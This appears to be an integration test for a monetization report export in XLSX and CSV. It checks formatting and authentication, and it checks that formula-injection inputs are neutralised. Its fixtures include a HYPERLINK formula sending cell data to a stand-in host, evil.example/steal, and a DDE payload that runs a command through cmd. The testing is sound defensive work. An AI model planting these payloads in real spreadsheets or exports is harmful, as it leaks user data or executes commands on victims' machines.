import ExcelJS from 'exceljs';
import { addCatalog } from '../support/catalog';
import { parseCsv } from '../support/csv';
import { codesOf, graphql } from '../support/graphql';
import { contractOperation, ingest, monetizationEnvelope } from '../support/analytics';
import { startStack, type TestStack } from '../support/stack';
import { tokenFor } from '../support/tokens';

const ExportMonetizationReport = contractOperation('analytics.graphql', 'ExportMonetizationReport');

const HOSTILE_TITLE = '=HYPERLINK("https://evil.example/steal?d="&A1,"Click, me")';
const HOSTILE_AD_NAMES = ['+SUM(1+1)*cmd|" /C calc"!A0', '@SUM(A1:A9)', '-2+3', 'Say "hi"\nto everyone, now'];
const SECTIONS = ['Revenue', 'Offers', 'Ads', 'Waitlist', 'Funnel'];

describe('monetization report exports', () => {
  let stack: TestStack;
  let token: string;
  let offerId: string;
  let adIds: string[];

  beforeAll(async () => {
    stack = await startStack();
    token = await tokenFor('u-staff');
    await addCatalog(stack.runtime.orm, 'ev-private', HOSTILE_AD_NAMES.length);
    const em = stack.runtime.orm.em.fork();
    offerId = (await em.execute<{ id: string }[]>(`select id from offers where event_id = 'ev-private' order by created_at limit 1`))[0].id;
    adIds = (await em.execute<{ id: string }[]>(`select id from ads where event_id = 'ev-private' order by created_at`)).map((row) => row.id);
    const at = new Date('2026-06-15T10:00:00Z');
    const fact = (type: Parameters<typeof monetizationEnvelope>[0], data: object, when = at) =>
      monetizationEnvelope(type, { eventId: 'ev-private', ...data }, when);
    await ingest(stack.runtime.orm, [
      fact('OfferViewed', { offerId, offerTitle: 'Old title' }),
      fact('OfferViewed', { offerId }),
      fact('OfferViewed', { offerId }),
      fact('OfferViewed', { offerId }),
      // A later message renamed the offer: exports show the newest title.
      fact('PurchaseCompleted', { offerId, quantity: 2, amountCents: 123_456, currency: 'USD', offerTitle: HOSTILE_TITLE }, new Date(at.getTime() + 1000)),
      ...HOSTILE_AD_NAMES.flatMap((adName, index) => [
        fact('AdImpression', { adId: adIds[index], adName }),
        fact('AdImpression', { adId: adIds[index] }),
        fact('AdClicked', { adId: adIds[index] }),
      ]),
      fact('WaitlistOffered', { sessionId: 's-keynote' }),
      fact('WaitlistAccepted', { sessionId: 's-keynote' }),
    ]);
  });
  afterAll(() => stack.close());

  const exportAs = (format: 'CSV' | 'XLSX', userId = 'u-staff') =>
    graphql(stack.gatewayUrl, ExportMonetizationReport, {
      variables: { eventId: 'ev-private', from: '2026-06-01', to: '2026-06-30', format },
      token: userId === 'u-staff' ? token : undefined,
    });

  it('writes an XLSX workbook that exceljs opens, one sheet per section with headers, money as currency numbers', async () => {
    const response = await exportAs('XLSX');
    expect(response.errors).toBeUndefined();
    const report = response.data.exportMonetizationReport;
    expect(report.filename).toBe('monetization-ev-private-2026-06-01-to-2026-06-30.xlsx');
    expect(report.contentType).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');

    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(Buffer.from(report.base64, 'base64') as never);
    expect(workbook.worksheets.map((sheet) => sheet.name)).toEqual(SECTIONS);
    const headers = (name: string) => (workbook.getWorksheet(name)!.getRow(1).values as unknown[]).slice(1);
    expect(headers('Revenue')).toEqual(['Metric', 'Amount', 'Currency']);
    expect(headers('Offers')).toEqual(['Offer ID', 'Offer', 'Views', 'Clicks', 'Purchases', 'Refunds', 'Units sold', 'Revenue', 'Conversion rate']);
    expect(headers('Ads')).toEqual(['Ad ID', 'Ad', 'Impressions', 'Clicks', 'Click-through rate']);
    expect(headers('Waitlist')).toEqual(['Joined', 'Offers sent', 'Accepted', 'Declined', 'Expired', 'Acceptance rate']);
    expect(headers('Funnel')).toEqual(['Stage', 'Count', 'Rate from previous stage']);

    const revenue = workbook.getWorksheet('Revenue')!;
    const total = revenue.getRow(2).getCell(2);
    expect(revenue.getRow(2).getCell(1).value).toBe('Total revenue (net of refunds)');
    expect(total.value).toBe(1234.56);
    expect(total.type).toBe(ExcelJS.ValueType.Number);
    expect(total.numFmt).toContain('"$"#,##0.00');

    const offers = workbook.getWorksheet('Offers')!;
    const offerRow = offers.getRow(2);
    expect(offerRow.getCell(1).value).toBe(offerId);
    // The newest title a message carried, kept as plain text: a workbook cell is never a formula here.
    expect(offerRow.getCell(2).value).toBe(HOSTILE_TITLE);
    expect(offerRow.getCell(2).type).toBe(ExcelJS.ValueType.String);
    expect([3, 4, 5, 6, 7].map((column) => offerRow.getCell(column).value)).toEqual([4, 0, 1, 0, 2]);
    expect(offerRow.getCell(8).value).toBe(1234.56);
    expect(offerRow.getCell(8).numFmt).toContain('"$"');
    expect(offerRow.getCell(9).value).toBe(0.25);
    expect(offerRow.getCell(9).numFmt).toBe('0.00%');

    expect(workbook.getWorksheet('Ads')!.rowCount).toBe(1 + HOSTILE_AD_NAMES.length);
    expect((workbook.getWorksheet('Waitlist')!.getRow(2).values as unknown[]).slice(1)).toEqual([0, 1, 1, 0, 0, 1]);
    expect((workbook.getWorksheet('Funnel')!.getRow(4).values as unknown[]).slice(1)).toEqual(['Purchases', 1, 0]);

    for (const sheet of workbook.worksheets) {
      expect(sheet.getRow(1).font?.bold).toBe(true);
      for (const column of sheet.columns) {
        expect(column.width).toBeGreaterThanOrEqual(10);
        expect(column.width).toBeLessThanOrEqual(60);
      }
    }
    // The long offer title widens its column, up to the bound.
    expect(offers.getColumn(2).width).toBeGreaterThan(offers.getColumn(3).width!);
  });

  it('writes a CSV whose hostile text cells are neutralised and whose commas, quotes and line breaks are escaped', async () => {
    const response = await exportAs('CSV');
    expect(response.errors).toBeUndefined();
    const report = response.data.exportMonetizationReport;
    expect(report.filename).toBe('monetization-ev-private-2026-06-01-to-2026-06-30.csv');
    expect(report.contentType).toBe('text/csv; charset=utf-8');
    const text = Buffer.from(report.base64, 'base64').toString('utf8').replace(/^\uFEFF/, '');

    // The exact bytes of the offer line: apostrophe first, then RFC 4180 quoting.
    expect(text).toContain(`${offerId},"'=HYPERLINK(""https://evil.example/steal?d=""&A1,""Click, me"")",4,0,1,0,2,1234.56,0.2500\r\n`);

    const rows = parseCsv(text);
    const cells = rows.flat();
    expect(cells).toContain(`'${HOSTILE_TITLE}`);
    for (const name of HOSTILE_AD_NAMES.slice(0, 3)) expect(cells).toContain(`'${name}`);
    expect(cells).toContain('Say "hi"\nto everyone, now');
    // No text cell a spreadsheet would evaluate; negative numbers are ours, written as numbers.
    for (const cell of cells) expect(cell).not.toMatch(/^\s*[=+@]|^[\t\r]/);

    // Every section: its name, then its header, then rows of the header's width.
    for (const section of SECTIONS) {
      const start = rows.findIndex((row) => row.length === 1 && row[0] === section);
      expect(start).toBeGreaterThanOrEqual(0);
      const width = rows[start + 1].length;
      for (let i = start + 2; i < rows.length && rows[i].join('') !== ''; i += 1) expect(rows[i]).toHaveLength(width);
    }
    expect(rows).toContainEqual(['Total revenue (net of refunds)', '1234.56', 'USD']);
  });

  it('refuses an anonymous caller and a period that breaks the rules', async () => {
    expect(codesOf(await exportAs('CSV', 'anonymous'))).toEqual(['UNAUTHENTICATED']);
    const tooLong = await graphql(stack.gatewayUrl, ExportMonetizationReport, {
      variables: { eventId: 'ev-private', from: '2026-01-01', to: '2027-01-02', format: 'XLSX' },
      token,
    });
    expect(codesOf(tooLong)).toEqual(['BAD_USER_INPUT']);
    expect(tooLong.errors![0].extensions?.field).toBe('to');
  });
});
